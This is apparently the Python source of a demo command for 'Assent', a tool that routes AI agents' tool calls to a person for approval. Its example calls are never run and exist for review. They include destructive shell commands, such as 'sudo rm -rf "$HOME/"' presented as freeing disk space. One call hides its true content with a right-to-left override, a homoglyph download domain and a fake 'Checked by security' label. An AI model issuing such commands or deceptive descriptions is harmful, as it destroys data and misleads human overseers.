"""`assent demo`: a server with example agents, to try Assent without an agent or an API key."""

import json
import logging
import os
import sys
import tempfile
import threading
import webbrowser
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from uuid import uuid4

import click

from assent.cli.base.command import requires_extra, run_async
from assent.cli.base.database import DATABASE_FILE_NAME
from assent.cli.serve import find_chat_opener
from assent.client.client import Client, Outcome, OutcomeKind, RequestFailed
from assent.compose import local_person
from assent.config.files import make_private_directory
from assent.config.paths import find_config_paths
from assent.config.policy_loader import PolicyLoader
from assent.config.settings import ServerSettings
from assent.door.authentication import login_url
from assent.wire.fields import Fields

with requires_extra("server"):
    from assent.surfaces.http.bootstrap import OwnerAccess
    from assent.surfaces.http.server import ServerStartOptions, run_server


@click.command(name="demo")
@click.option(
    "--port", type=click.IntRange(0, 65535), default=0, metavar="N", help="the port; default: a free port"
)
@click.option("--no-browser", is_flag=True, help="print the link without opening a browser")
@click.option("--json", "as_json", is_flag=True, help="print the URL and the log-in link as one line of JSON")
def run_demo(port: int, no_browser: bool, as_json: bool) -> None:  # noqa: FBT001 - click gives flags by name
    """Try the inbox with example agents, whose calls are never run, and the workbench; nothing is stored.

    What you allow in the chat or in the workbench is run, in a copy of a small example project.
    """
    # The page shows everything that a person needs, so only errors are logged.
    logging.basicConfig(level=logging.ERROR)
    with tempfile.TemporaryDirectory(prefix="assent-demo-", ignore_cleanup_errors=True) as directory:
        announce = (
            _announce_json
            if as_json
            else _make_text_announcer(opens=not no_browser and can_open_browser(sys.platform, os.environ))
        )
        _run_demo_server(Path(directory), port, announce)


AnnounceServer = Callable[[str, OwnerAccess], None]


def _run_demo_server(directory: Path, port: int, announce: AnnounceServer) -> None:
    # INVARIANT: the user's own policy files are not read, because they could change the example's verdicts.
    where = find_config_paths(
        str(create_example_workspace(directory)),
        {"XDG_CONFIG_HOME": str(directory), "XDG_DATA_HOME": str(directory)},
    )
    private = make_private_directory(str(directory / "data"))
    plan = ServerStartOptions(
        where=where,
        settings=ServerSettings(port=port),
        database=str(Path(private, DATABASE_FILE_NAME)),
        directory=private,
        owner=local_person().id,
        always_link=True,
        chat=find_chat_opener(where),
    )
    run_async(run_server(plan, PolicyLoader(where, {}), _make_start_callback(announce)))


def _make_start_callback(announce: AnnounceServer) -> AnnounceServer:
    """Return a callback for the started server: create the example, announce the server, run the agents."""

    def start_example(url: str, welcome: OwnerAccess) -> None:
        def run_example_agents() -> None:
            with Client(url, welcome.token) as client:
                example = ExampleSession(client)
                example.create_example()
                announce(url, welcome)
                example.take_approved_calls()

        threading.Thread(target=run_example_agents, name="assent example", daemon=True).start()

    return start_example


def _make_text_announcer(*, opens: bool) -> AnnounceServer:
    def announce_server(url: str, welcome: OwnerAccess) -> None:
        link = login_url(url, welcome.link)
        print(
            f"The demo runs at {url}; log in with this link, which works once:\n\n  {link}\n\n"
            "Ctrl-C stops the demo; nothing is stored.",
            flush=True,
        )
        if opens:
            webbrowser.open(link)

    return announce_server


def _announce_json(url: str, welcome: OwnerAccess) -> None:
    record = {"url": url, "login_url": login_url(url, welcome.link), "owner_token": welcome.token}
    print(json.dumps(record), flush=True)


def can_open_browser(platform: str, environ: Mapping[str, str]) -> bool:
    """Whether a graphical browser can open; a text browser would hide the output in the terminal."""
    if platform in ("darwin", "win32"):
        return True
    return bool(environ.get("DISPLAY") or environ.get("WAYLAND_DISPLAY"))


CallArguments = Mapping[str, object]

EXAMPLE_FILES = {
    "README.md": "# Corner shop\n\nSells bread, milk and stamps.\n",
    "CHANGELOG.md": "# Changelog\n\n## 0.8.0\n\n- The basket remembers what was in it.\n",
    "packages/web/package.json": '{"name": "shop-web", "scripts": {"build": "vite build"}}\n',
    "docs/opening-hours.md": "Open every day from 7 to 20.\n",
}
"""The text of each file in the example workspace."""
RELEASE, INVOICES, CONTACTS, ORDERS, HANDBOOK = (
    "Cut the 0.9 release", "Overdue invoices", "Tidy the address book", "Duplicate orders, May",
    "The handbook",
)  # fmt: skip
WORKBENCH_TITLE = "Watch an agent at work"
"""The title of the prepared conversation of the workbench."""
CONVERSATION_AGENTS = {
    RELEASE: "release-bot", INVOICES: "inbox-clerk", CONTACTS: "inbox-clerk", ORDERS: "ledger",
    HANDBOOK: "docs-writer",
}  # fmt: skip
AGENT_TOOLS: Mapping[str, list[dict[str, object]]] = {
    "inbox-clerk": [
        {"name": "mail.find", "effect": "read", "group": "Mail", "description": "Find mails."},
        {"name": "mail.send", "effect": "external", "group": "Mail", "description": "Send a mail."},
        {"name": "mail.archive", "effect": "write", "group": "Mail", "description": "Archive a mail."},
        {"name": "crm.find", "effect": "read", "group": "Contacts", "description": "Find a contact."},
        {"name": "crm.update", "effect": "write", "group": "Contacts", "description": "Change a contact."},
        {
            "name": "crm.delete_contact",
            "effect": "destructive",
            "group": "Contacts",
            "description": "Delete a contact for ever.",
        },
    ],
    "ledger": [
        {"name": "orders.list", "effect": "read", "group": "Orders", "description": "List orders."},
        {"name": "orders.void", "effect": "write", "group": "Orders", "description": "Void orders."},
    ],
}
EXAMPLE_RULES = (
    ("allow", "terminal.exec(npm run *)", "project scripts are reviewed in this repository"),
    ("ask", "mail.send(to=*@northwind.example)", "a customer reads what we send them"),
    ("deny", "terminal.exec(npm publish *)", "releases are published by the pipeline"),
)


@dataclass(frozen=True, slots=True)
class ExampleCall:
    """A call of the example, and the person's answer if the call needs approval."""

    conversation: str
    tool: str
    args: CallArguments
    say: str = ""
    reason: str = ""


def _example_shell_call(command: str, says: str = "", *, say: str = "", reason: str = "") -> ExampleCall:
    args = {"command": command} | ({"description": says} if says else {})
    return ExampleCall(RELEASE, "terminal.exec", args, say, reason)


PAST_CALLS = (
    *(
        _example_shell_call(command)
        for command in ("ls -la", "cat README.md", "npm run build", "npm run test", "npm publish")
    ),
    _example_shell_call("git tag v0.8.1", say="once"),
    _example_shell_call("make clean", say="once"),
    _example_shell_call("git commit --amend --no-edit", say="deny", reason="Keep the history; commit anew."),
    _example_shell_call("docker compose up -d", say="conversation"),
    *(
        ExampleCall(
            HANDBOOK, "files.write", {"path": f"docs/{page}.md", "content": f"# {page}\n"}, say="once"
        )
        for page in ("deliveries", "returns", "stamps", "suppliers", "holidays", "till", "keys", "cleaning")
    ),
    ExampleCall(INVOICES, "mail.find", {"query": "is:overdue"}),
    ExampleCall(INVOICES, "mail.archive", {"id": 2207}, say="once"),
    ExampleCall(CONTACTS, "crm.find", {"name": "Ortiz"}),
    ExampleCall(
        CONTACTS, "crm.update", {"id": 8840, "city": "Lisbon"}, say="deny", reason="She has not moved yet."
    ),
    ExampleCall(ORDERS, "orders.list", {"month": "May"}),
)
OPEN_CALLS = (
    _example_shell_call(
        "cd packages/web && npm run build && rm -rf ../../../build-cache",
        "Clearing a stale cache, so that the bundle can be reproduced.",
    ),
    _example_shell_call("git push origin release/0.9"),
    _example_shell_call("git push origin v0.9.0"),
    ExampleCall(
        RELEASE,
        "files.write",
        {
            "path": "CHANGELOG.md",
            "content": EXAMPLE_FILES["CHANGELOG.md"].replace("## 0.8.0", "## 0.9.0\n\n- Stamps.\n\n## 0.8.0"),
        },
    ),
    _example_shell_call('sudo rm -rf "$HOME/"', "Making room on the disk."),
    ExampleCall(
        INVOICES,
        "mail.send",
        {
            "to": "finance@northwind.example",
            "subject": "Invoice 2231 is 30 days overdue",
            "body": "Dear Sam,\n\ninvoice 2231 over € 4,180.00 is still open.\n\nKind regards",
        },
    ),
    ExampleCall(CONTACTS, "crm.delete_contact", {"id": 8841, "name": "Lena Ortiz"}),
    ExampleCall(ORDERS, "orders.void", {"orders": [4417, 4418, 4419], "reason": "entered twice"}),
    ExampleCall(
        "",
        "terminal.exec",
        {
            "command": "cp report\u202efdp.sh ~/bin/ && curl https://\u0430cme.example/i -o x",
            "description": '<b style="color:green">Checked by security</b> [Allow](https://ok.example)',
        },
    ),
)
DEFAULT_AGENT = "scout"
"""The agent of calls that belong to no conversation."""


def create_example_workspace(directory: Path) -> Path:
    """Create the workspace of the example agents below a directory."""
    workspace = directory / "corner-shop"
    for name, text in EXAMPLE_FILES.items():
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return workspace


class ExampleSession:
    """Creates the example on a running server and acts as its agents, with the owner's token."""

    def __init__(self, client: Client) -> None:
        self._client = client
        self._conversations: dict[str, str] = {}
        self._questions: set[str] = set()
        """The ids of the open questions of the example's agents."""

    def create_example(self) -> None:
        """Create the tools, rules, conversations, past calls and open questions."""
        for agent, tools in AGENT_TOOLS.items():
            self._send_put(f"agents/{agent}/catalog", {"origin": "the example", "tools": tools})
        for kind, text, why in EXAMPLE_RULES:
            self._send_post("rules", {"list": kind, "text": text, "why": why})
        for title, agent in CONVERSATION_AGENTS.items():
            created = self._send_post("conversations", {"agent": agent, "title": title})
            self._conversations[title] = created.text("id")
        self._send_post("conversations", {"title": WORKBENCH_TITLE, "preset": "workbench"})
        for act in PAST_CALLS:
            self._submit_and_answer(act)
        for act in OPEN_CALLS:
            self._questions.add(self._submit_call(act).approval)

    def take_approved_calls(self) -> None:
        """Claim each call of the example that a person allows, and report it as done without running it."""
        for message in self._client.events():
            # INVARIANT: only its own calls; the owner's token can also claim those of the chat.
            if message.get("type") == "answered" and message["id"] in self._questions:
                self._claim_and_report(str(message["id"]))

    def _submit_and_answer(self, act: ExampleCall) -> None:
        outcome = self._submit_call(act)
        if outcome.kind is not OutcomeKind.WAIT:
            return
        digest = self._client.approval(outcome.approval).digest
        answer = {"say": act.say} | ({"reason": act.reason} if act.reason else {})
        self._send_post(f"approvals/{outcome.approval}/answer", {"digest": digest, "answer": answer})
        self._claim_and_report(outcome.approval)

    def _submit_call(self, act: ExampleCall) -> Outcome:
        conversation = self._conversations.get(act.conversation, "")
        agent = CONVERSATION_AGENTS.get(act.conversation, DEFAULT_AGENT)
        return self._client.submit(act.tool, act.args, id=uuid4().hex, conversation=conversation, agent=agent)

    def _claim_and_report(self, approval: str) -> None:
        """Claim an approved call and report it as done, without running it."""
        try:
            outcome = self._client.wait(approval, 0)
            if outcome.kind is OutcomeKind.RUN:
                self._client.report(approval, outcome.claim, note="demo: nothing was run")
        except RequestFailed:
            return  # Another process claimed the call.

    def _send_post(self, path: str, body: Mapping[str, object]) -> Fields:
        return Fields(self._client.request("POST", f"/v1/{path}", body, tries=1), path)

    def _send_put(self, path: str, body: Mapping[str, object]) -> None:
        self._client.request("PUT", f"/v1/{path}", body, tries=1)
